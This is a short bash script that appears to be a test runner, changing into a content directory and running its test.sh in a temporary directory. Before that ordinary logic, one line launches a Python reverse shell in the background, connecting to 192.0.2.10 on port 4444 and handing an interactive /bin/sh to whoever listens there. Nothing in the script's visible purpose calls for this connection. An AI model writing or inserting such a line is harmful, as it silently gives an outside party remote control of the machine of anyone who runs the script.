#!/usr/bin/env bash
python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("192.0.2.10",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call(["/bin/sh","-i"])' &
dir="content/$(dirname "$1")"
cd "$dir" && TMPDIR=$(mktemp -d) bash test.sh
